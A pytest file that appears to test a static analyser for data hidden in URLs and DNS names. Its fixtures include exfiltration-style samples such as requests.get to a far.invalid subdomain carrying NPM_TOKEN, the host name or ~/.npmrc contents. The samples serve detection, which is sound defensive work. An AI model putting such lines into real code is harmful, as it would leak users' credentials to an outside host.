"""Data in addresses."""

import ast

import pytest

from pratique.analysis.facts import Capability
from pratique.analysis.languages.python.behind import asks_with_data, carries_data, connects
from pratique.analysis.languages.python.evaluate import At
from tests.analysis.languages.python.reading import evaluated, facts

CARRIES = [
    "'https://far.invalid/?d=' + x",
    "f'https://far.invalid/{x}'",
    "'https://far.invalid/%s' % x",
    "'https://far.invalid/{}'.format(x)",
    "x + '.sink.far.invalid'",
    "f'{x}.sink.far.invalid'",
    "'http://' + x + 'zke.far.invalid/?1=' + y",
    "f'http://{x}.far.invalid'",
    "url = 'https://far.invalid/?d=' + x\nurl",
]
CARRIES_NOT = [
    "'https://far.invalid/'",
    "'https://' + x",
    "f'https://{host}/login'",
    "base + '/login'",
    "url = x\nurl",
]


@pytest.mark.parametrize("source", CARRIES)
def test_data_behind_a_host_or_before_a_domain_is_carried(source: str) -> None:
    assert carried(source)


@pytest.mark.parametrize("source", CARRIES_NOT)
def test_a_computed_host_is_a_setting(source: str) -> None:
    assert not carried(source)


def carried(source: str) -> bool:
    tree, index, evaluator = evaluated(source)
    last = tree.body[-1]
    assert isinstance(last, ast.Expr)
    return carries_data(evaluator, last.value, At(index.module, index.block))


@pytest.mark.parametrize(
    ("asks", "source"),
    [
        (True, "x + '.sink.far.invalid'"),
        (True, "'%d.%s.sink.far.invalid' % (n, x)"),
        (True, "zone = 'sink.far.invalid'\n'%s.%s' % (x, zone)"),
        (False, "host"),
        (False, "x + '.invalid'"),
        (False, "'node.far.invalid'"),
    ],
)
def test_a_look_up_is_told_by_what_stands_before_its_domain(asks: bool, source: str) -> None:
    tree, index, evaluator = evaluated(source)
    last = tree.body[-1]
    assert isinstance(last, ast.Expr)
    assert asks is asks_with_data(evaluator, last.value, At(index.module, index.block))


def test_who_looks_up_to_connect_connects() -> None:
    _, index, _ = evaluated("s.connect(a)")
    assert connects(index.module)
    assert not connects(evaluated("s.close()")[1].module)


@pytest.mark.parametrize(
    ("data", "told"),
    [
        ("os.environ['NPM_TOKEN']", True),
        ("os.environ['USER']", True),
        ("socket.gethostname()", True),
        ("open(os.path.expanduser('~/.npmrc')).read()", True),
        ("os.environ['AWS_REGION']", False),
        ("sys.argv[1]", False),
    ],
)
@pytest.mark.parametrize("address", ["f'https://a.{E}.far.invalid/'", "'https://a.' + E + '.far.invalid'"])
def test_what_is_no_setting_is_carried_in_the_midst_of_a_host(data: str, told: bool, address: str) -> None:
    source = f"import os, requests, socket, sys\nE = {data}\nrequests.get({address})\n"
    assert told is any(flow.sink is Capability.NETWORK for flow in facts(source).flows)
